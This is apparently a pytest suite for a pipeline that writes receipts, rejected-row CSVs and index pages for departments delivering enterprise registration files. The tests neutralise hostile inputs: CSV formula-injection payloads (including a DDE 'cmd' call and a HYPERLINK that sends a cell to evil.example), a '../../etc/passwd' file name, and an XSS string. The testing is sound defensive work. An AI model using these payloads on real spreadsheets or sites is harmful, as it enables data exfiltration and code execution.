"""What departments read of their files: receipts, rejected rows that a spreadsheet may open, and the page of all."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import shutil
import time
import unicodedata
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pyarrow as pa
import pytest
from deltalake import DeltaTable
from hypothesis import given, settings
from hypothesis import strategies as st

from spark_jobs import pipeline
from spark_jobs.lake.home import Home
from spark_jobs.lake.ledger import Delivery, record
from spark_jobs.lake.tables import create_tables, read
from spark_jobs.lake.text_mark import LOOSE_CELLS, REJECTED_HEADINGS, marked, unmarked
from spark_jobs.landing.land import make_landing_zone
from spark_jobs.receipts import index_path, receipt_path, receipt_stem, restore_receipts, write_index, write_receipts
from spark_jobs.receipts.sentences import STATES, local

MOMENT = datetime(2026, 7, 1, 2, tzinfo=UTC)
HEADINGS = "企业名称,统一社会信用代码,注册日期,注册资金"
GOOD = "武汉样本商贸有限公司,91420100MA4K00010R,2016-03-01,1234.50"
OTHER = "西陵区样本小吃店,92420502MA4L0TE52G,2018-05-01,50万元"


# -- cells in a spreadsheet ------------------------------------------------------------------------------------------

RUNS = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"点击")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u3000=1+1",
    "'=1+1",
    '"=1+1',
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "|calc",
    "%0A=1",
    "-A1",
    "--1",
    "-",
    "+86 13800000000",
    "-1,23",
    "-1e5e5",
    "-1=1",
    "−1+cmd",
]
NUMBERS = ["-12.5", "-1,234.00", "-1234.50", "-5%", "-0.5", "-.5", "12", "1,234", "3.14", "0", "-1,234,567.89"]
CODES = [
    "420103199001011234",
    "1234567890123456",
    "0101",
    "007",
    "9142010000E000010",
    "1E5",
    "2024-01",
    "1-2",
    "3/4",
    "10:20",
    "1.10",
    "MAR1",
    "1-DEC",
    "(12)",
    "+8613800000000",
]
PLAIN = ["91420100MA4K00010R", "武汉样本商贸有限公司", "'97酒吧", "“85度”", "a=b", "1+1", "a@b.cn", "50万元", "", "N/A"]


@pytest.mark.parametrize("cell", RUNS)
def test_what_a_spreadsheet_would_run_is_text(cell: str) -> None:
    assert marked(cell) == marked(cell, is_text=False) == f"'{cell}"


@pytest.mark.parametrize("cell", NUMBERS)
def test_numbers_stay_numbers(cell: str) -> None:
    assert marked(cell, is_text=False) == cell


@pytest.mark.parametrize("cell", CODES)
def test_codes_keep_their_shape(cell: str) -> None:
    assert marked(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", PLAIN)
def test_other_text_stays_as_it_is(cell: str) -> None:
    assert marked(cell) == cell


TRICKY = st.text("'=+@-|%\t\r\n\0 0123456789０１.,eE/:()（）＝－\"\u3000\ufeff\u202e\x85日J", max_size=24) | st.text()


@settings(max_examples=1000, deadline=None)
@given(TRICKY, st.booleans())
def test_marks_come_off_exactly(cell: str, is_text: bool) -> None:
    assert unmarked(pa.array([marked(cell, is_text), cell and None])).to_pylist() == [cell, cell and None]


@settings(max_examples=1000, deadline=None)
@given(TRICKY, st.booleans())
def test_no_cell_begins_as_a_formula_does(cell: str, is_text: bool) -> None:
    written = marked(cell, is_text)
    assert not written.startswith(("\t", "\r", "\n"))
    if unicodedata.normalize("NFKC", written.strip(' \t\r\n\u3000\ufeff\u202e\x85"\0')).startswith(tuple("=+-@|%")):
        float(re.sub("[,%]", "", unicodedata.normalize("NFKC", written)))


@settings(max_examples=300, deadline=None)
@given(st.decimals(-(10**12), 10**12, places=2), st.booleans())
def test_every_amount_survives(amount: object, grouped: bool) -> None:
    text = f"{amount:,}" if grouped else f"{amount}"
    assert marked(text, is_text=False) == text


@pytest.mark.parametrize("cell", ["'" * 10**5, "9" * 10**5 + "x", " " * 10**5, "1," * 50000 + "x", "1-" * 50000])
def test_a_hostile_cell_costs_no_time(cell: str) -> None:
    started = time.process_time()
    marked(cell)
    assert time.process_time() - started < 1


# -- names -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a.csv", "企业 2026-07（二）.xlsx", "包.zip!数据.csv", "a~b.csv", "x" * 200])
def test_a_common_name_stays(name: str) -> None:
    assert receipt_stem(name) == name


ODD = [
    "a\nb.csv",
    "../../etc/passwd",
    "..",
    ".",
    "",
    ".hidden.csv",
    "a\u202ecsv.exe",
    "字" * 85,
    "NUL",
    "con.csv",
    "a:b",
]


@pytest.mark.parametrize("name", ODD)
def test_an_odd_name_becomes_one_that_every_system_keeps(name: str, tmp_path: Path) -> None:
    stem = receipt_stem(name)
    assert re.search("~[0-9a-f]{12}$", stem)
    assert not re.search(r"[/\\:\x00-\x1f\u202e]|^\.", stem)
    (tmp_path / f"{stem}~{'0' * 12}.receipt.html.part").write_text("")


@settings(max_examples=500, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(codec="utf-8"), max_size=300), min_size=2, max_size=2, unique=True))
def test_two_names_never_share_a_receipt(names: list[str]) -> None:
    one, other = names
    assert receipt_stem(one) != receipt_stem(other)
    assert receipt_stem(receipt_stem(one)) != receipt_stem(other) or receipt_stem(one) == other


def test_no_delivered_folder_takes_the_place_of_a_file_of_ours(tmp_path: Path) -> None:
    home = Home(tmp_path)
    paths = {
        receipt_path(home, delivery(folder=folder, department=department)).parent.relative_to(home.receipts)
        for department in ("scjg", "index.html", "a.csv.receipt.json")
        for folder in ("index.html", "a.csv.receipt.json", "", "b", "c" * 255, "/".join("d" * 2000))
    }
    assert len(paths) == 18
    assert not any("." in str(path) or len(str(path)) > 600 for path in paths)


# -- pages -----------------------------------------------------------------------------------------------------------


def delivery(number: int = 0, **given: object) -> Delivery:
    made = Delivery(
        delivery=f"{number:064x}",
        department="scjg",
        folder="enterprise",
        feed="scjg_enterprise",
        file_name=f"企业{number}.csv",
        bytes=1000,
        received_at=MOMENT + timedelta(minutes=number),
        state="refused",
        reason="文件是空的（0 字节）。",
    )
    return replace(made, **given)  # type: ignore[arg-type]


class Page(HTMLParser):
    """The text, links and tags of a page."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.text, self.links, self.tags = "", list[str](), set[str]()
        self.attributes = set[str]()
        self.feed(path.read_text(encoding="utf-8"))

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attributes}
        self.links += [value for name, value in attributes if name == "href" and value]

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture
def lake(home: Home) -> Home:
    create_tables(home)
    return home


def index(home: Home, department: str = "scjg") -> Page:
    return Page(index_path(home, department))


def write(home: Home, *deliveries: Delivery) -> None:
    write_receipts(home, deliveries)
    record(home, list(deliveries))


def targets(home: Home, page: Path) -> list[Path]:
    """The files that a page links to; every one must be there."""
    paths = [urlsplit(link).path for link in Page(page).links]  # none in a link to the page itself
    found = [page.parent / unquote(path) for path in paths if path]
    assert all(path.is_file() for path in found), [str(path) for path in found if not path.is_file()]
    return found


def test_the_page_lists_deliveries_newest_first_with_what_needs_action_on_top(lake: Home) -> None:
    states = ["refused", "held", "accepted", "duplicate", "rejected", "unpacked"]
    write(lake, *(delivery(number, state=state, rows=10) for number, state in enumerate(states)))
    page = index(lake)
    for state in states:
        assert STATES[state].word in page.text
        assert STATES[state].meaning in page.text
    assert "需要处理：2 份文件未入库" in page.text
    listed = page.text.split("全部报送")[1]
    assert listed.index("企业5.csv") < listed.index("企业0.csv")
    assert "2026-07-01 10:05:00" in page.text
    targets(lake, index_path(lake, "scjg"))


def test_a_delivery_that_is_not_judged_yet_is_in_work(lake: Home) -> None:
    path = lake.landing / "scjg" / "enterprise" / "新.csv"
    path.write_text(f"{HEADINGS}\n{GOOD}\n")
    pipeline.land(lake)
    write_index(lake, "scjg")
    assert "新.csv处理中" in re.sub(r"\s", "", index(lake).text)


def test_a_mended_file_needs_no_action_any_more_and_both_receipts_stay(lake: Home) -> None:
    write(lake, delivery(1, file_name="a.csv"))
    write(lake, delivery(2, file_name="a.csv", state="accepted", reason="", rows=1, rows_accepted=1))
    assert "没有需要处理的文件" in index(lake).text
    newest, earlier = (
        json.loads(receipt_path(lake, delivery(number, file_name="a.csv"), number == 2).read_text())
        for number in (2, 1)
    )
    assert (newest["状态"], earlier["状态"]) == ("已接收", "已退回")
    targets(lake, index_path(lake, "scjg"))


def test_a_correction_and_a_decision_are_told(lake: Home) -> None:
    earlier = delivery(1, file_name="a.csv", state="accepted", rows=1)
    told = delivery(
        2,
        file_name="a.csv",
        state="rejected",
        reason="行数为 1，低于约定的 5，整批暂缓入库",
        corrects=earlier.delivery,
        decided_by="王某",
        decided_why="经核实为测试数据",
        decided_at=MOMENT + timedelta(days=1),
    )
    write(lake, earlier, told)
    page = Page(receipt_path(lake, told).with_name("a.csv.receipt.html"))
    for text in (page.text, index(lake).text):
        assert "更正：按主键替代此前 2026-07-01 10:01:00 报送的同名文件。" in text
        assert "2026-07-02 10:00:00 王某：经核实为测试数据" in text
        assert "不予入库" in text


HOSTILE = '<script>alert(1)</script>"><img src=x onerror=alert(1)>{{7*7}}&amp;\u202efdp\x07.csv'


def test_a_strangers_text_stays_text(lake: Home) -> None:
    odd = delivery(1, file_name=HOSTILE, reason=HOSTILE, folder="<b>", feed="<b>", department="<i>")
    write(lake, odd)
    for path in index_path(lake, "<i>").parent.rglob("*.html"):
        text = path.read_text(encoding="utf-8")
        page = Page(path)
        assert {"script", "img", "b", "i"}.isdisjoint(page.tags - {"b"} if path.name == "index.html" else page.tags)
        assert {"onerror", "src", "style"}.isdisjoint(page.attributes)
        assert "\u202e" not in text
        assert "\x07" not in text
        assert "{{7*7}}" in page.text
        assert html.escape("<script>alert(1)</script>") in text
        assert "default-src 'none'" in text
        assert not any(urlsplit(link).scheme or urlsplit(link).netloc for link in page.links)
        targets(lake, path)


def test_all_deliveries_are_on_a_page_a_month(lake: Home) -> None:
    old = [delivery(n, received_at=MOMENT - timedelta(days=1000 - n // 10)) for n in range(10_000)]
    record(lake, old)
    write_index(lake, "scjg")
    folder = index_path(lake, "scjg").parent
    months = {f"index-{local(one.received_at)[:7]}.html" for one in old}
    assert index(lake).text.count("已退回") >= 200
    assert {path.name for path in folder.glob("index-*.html")} == months
    assert sum(len(re.findall(r"企业\d+\.csv", Page(path).text)) for path in folder.glob("index-*.html")) == 10_000


def test_a_page_of_a_month_follows_what_becomes_of_its_deliveries_and_no_others(lake: Home) -> None:
    old = [delivery(n, received_at=MOMENT - timedelta(days=300 - n)) for n in range(300)]
    record(lake, old)
    write_index(lake, "scjg")
    folder = index_path(lake, "scjg").parent
    before = {path.name: path.stat().st_mtime_ns for path in folder.glob("index-*.html")}
    again = delivery(300, file_name=old[0].file_name, received_at=MOMENT)
    write(lake, again)
    changed = {path.name for path in folder.glob("index-*.html") if path.stat().st_mtime_ns != before.get(path.name)}
    assert changed == {f"index-{local(old[0].received_at)[:7]}.html"}
    assert '<tr class="old">' in (folder / f"index-{local(old[0].received_at)[:7]}.html").read_text(encoding="utf-8")


# -- the whole way ---------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def judged(tmp_path_factory: pytest.TempPathFactory) -> Home:
    """A delivery of which some rows are rejected."""
    home = Home(tmp_path_factory.mktemp("receipts"))
    make_landing_zone(home)
    rows = [
        GOOD,
        OTHER,
        '=1+1号店,91420100MA4K0001OR,2016-02-30,"-1,234.00"',
        "样本三,420103199001011234,2016-03-01,-12.5",
        "样本四,0101,2024/1/5,+5",
        f"{OTHER},多一格",
        *(GOOD.replace("2016-03-01", f"2016-03-0{day}") for day in range(2, 6)),
        OTHER.replace("92420502MA4L0TE52G", "92420502ma4l0te52g"),
        GOOD.replace("91420100MA4K00010R", "91420100ma4k00010A"),
    ]
    path = home.landing / "scjg" / "enterprise" / "企业 #1?.csv"
    path.write_text("\n".join([HEADINGS, *rows]))
    pipeline.land(home)
    pipeline.conform(home)
    return home


def rejected(home: Home) -> list[dict[str, str]]:
    [path] = (home.receipts / "scjg" / "enterprise").glob("*.rejected.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == raw.count(b"\n")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_rejected_rows_have_the_files_own_columns_then_line_and_reasons(judged: Home) -> None:
    rows = rejected(judged)
    assert list(rows[0]) == [*HEADINGS.split(","), *REJECTED_HEADINGS[:7]]
    assert [row["行号"] for row in rows] == ["4", "5", "6", "7"]
    assert rows[0]["企业名称"] == "'=1+1号店"
    assert rows[0]["注册资金"] == "-1,234.00"
    assert rows[1]["统一社会信用代码"] == "'420103199001011234"
    assert rows[2]["统一社会信用代码"] == "'0101"
    assert "不是统一社会信用代码" in rows[2]["退回原因"]
    # A row of another width: its cells stand apart, none in a column that it may not belong to.
    assert rows[3]["退回原因"] == "整行：列数与表头不一致。请把右侧“原第1格”起的各格移到所属的列"
    assert [rows[3][heading] for heading in HEADINGS.split(",")] == ["", "", "", ""]
    assert [rows[3][cell].lstrip("'") for cell in LOOSE_CELLS[:5]] == [*OTHER.split(","), "多一格"]
    assert not any(rows[0][cell] for cell in LOOSE_CELLS[:5])


def test_accepted_rows_that_are_doubtful_are_told_with_the_cell_that_made_them_so(judged: Home) -> None:
    told = json.loads(receipt_path(judged, delivery(file_name="企业 #1?.csv")).read_text())
    assert told["说明"].startswith("共 12 行，接收 8 行（其中 2 行存疑），退回 4 行。")
    assert told["存疑行数"] == 2
    small, check = "小写字母已改为大写", "第 18 位校验码不符（GB 32100）"
    assert [list(doubt.values()) for doubt in told["存疑汇总"]] == [
        ["统一社会信用代码", small, 2],
        ["统一社会信用代码", check, 1],
    ]
    assert {(doubt["行"], doubt["问题"], doubt["值"]) for doubt in told["存疑示例"]} == {
        (12, small, "92420502ma4l0te52g"),
        (13, small, "91420100ma4k00010A"),
        (13, check, "91420100ma4k00010A"),
    }
    [page] = (judged.receipts / "scjg" / "enterprise").glob("*.receipt.html")
    assert "请对照“存疑示例”核对" in Page(page).text
    assert read(judged.table("ops", "delivery"), ["rows_doubtful"]).to_pylist() == [{"rows_doubtful": 2}]
    assert "其中存疑" in index(judged).text
    assert '<td class="number">8</td><td class="number">2</td>' in index_path(judged, "scjg").read_text()


def test_every_link_leads_to_a_file(judged: Home) -> None:
    pages = list((judged.receipts / "scjg").rglob("*.html"))
    assert len([page for page in pages if page.parent.name != "templates"]) == 2
    linked = {path.resolve() for page in pages for path in targets(judged, page)}
    assert linked == {path for path in (judged.receipts / "scjg").rglob("*.*") if path.is_file()}


def test_lost_receipts_are_written_again_byte_for_byte(judged: Home) -> None:
    folder = judged.receipts / "scjg"
    before = {path.relative_to(folder): path.read_bytes() for path in folder.rglob("*.*")}
    shutil.rmtree(folder)
    restore_receipts(judged, "scjg")
    assert {path.relative_to(folder): path.read_bytes() for path in folder.rglob("*.*")} == before
    assert len([path for path in before if path.parent.name != "templates"]) == 4


def test_rejected_rows_come_back_mended(judged: Home, tmp_path: Path) -> None:
    home = Home(tmp_path / "again")
    shutil.copytree(judged.path, home.path)
    rows = rejected(judged)[:3]
    for row, uscc in zip(rows, ("91420100MA4K00010R", "92420502MA4L0TE52G", "91420100MA4K00010R"), strict=True):
        row |= {"统一社会信用代码": f"'{uscc}", "注册日期": "2016/3/1", "注册资金": row["注册资金"].lstrip("-")}
    with (home.landing / "scjg" / "enterprise" / "更正.csv").open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    pipeline.land(home)
    pipeline.conform(home)
    told = json.loads((home.receipts / "scjg" / "enterprise" / "更正.csv.receipt.json").read_text())
    assert (told["状态"], told["接收行数"], told["退回行数"], told["退回明细"]) == ("已接收", 3, 0, None)
    sent = read(home.table("bronze", "scjg_enterprise"), where=[("_delivery", "=", told["内容标识"])]).to_pylist()
    assert {(row["object_name"], row["capital_amount"]) for row in sent} == {
        ("=1+1号店", "1,234.00"),
        ("样本三", "12.5"),
        ("样本四", "+5"),
    }


def test_a_second_verdict_takes_the_place_of_the_first(judged: Home, tmp_path: Path) -> None:
    home = Home(tmp_path / "again")
    shutil.copytree(judged.path, home.path)
    [one] = map(Delivery.of_ledger, read(home.table("ops", "delivery")).to_pylist())
    DeltaTable(home.table("quarantine", one.feed)).delete()
    write_receipts(home, [replace(one, rows_accepted=one.rows, rows_quarantined=0)])
    assert not list((home.receipts / "scjg" / "enterprise").glob("*.rejected.csv"))
    assert json.loads(receipt_path(home, one).read_text())["退回行数"] == 0
    targets(home, index_path(home, "scjg"))
